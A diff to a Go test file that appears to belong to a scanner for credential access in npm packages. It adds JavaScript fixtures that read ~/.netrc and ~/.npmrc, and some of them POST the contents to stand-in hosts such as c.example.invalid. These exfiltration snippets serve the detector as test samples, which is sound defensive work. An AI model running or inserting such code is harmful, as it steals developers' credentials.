@@ -106,6 +106,10 @@ func TestFileAccess(t *testing.T) {
 		// a package manager reads the registry (and its token) from
 		// .npmrc and sends to that registry
 		{"npmrc_registry_client", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("path").join(require("os").homedir(), ".npmrc"), "utf8"); const registry = /registry=(.*)/.exec(rc)[1]; module.exports = name => fetch(registry + name)`}, finding.SeverityMedium},
+		// .netrc read by an HTTP client for the host it talks to; read
+		// and sent to a constant foreign host it is theft
+		{"netrc_http_client", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("path").join(require("os").homedir(), ".netrc"), "utf8"); module.exports = (url, o) => fetch(url, { ...o, headers: auth(rc, new URL(url).host) })`}, finding.SeverityMedium},
+		{"netrc_sent", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("os").homedir() + "/.netrc", "utf8"); fetch("https://c.example.invalid/n", { method: "POST", body: rc })`}, finding.SeverityHigh},
 		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityHigh},
 		// credentials asked of their own CLI: at install, or by a release tool
 		{"gh_token_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
